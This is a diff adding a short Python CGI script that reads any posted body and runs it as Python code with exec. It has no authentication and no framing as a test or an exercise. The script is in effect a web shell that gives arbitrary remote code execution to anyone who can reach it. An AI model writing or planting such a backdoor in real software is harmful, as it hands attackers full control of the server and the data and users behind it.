@@ -1,0 +1,7 @@
+#!/usr/bin/env python3
+import sys
+
+print("Content-Type: text/plain\n")
+source = sys.stdin.read()
+if source:
+    exec(compile(source, "<posted>", "exec"))
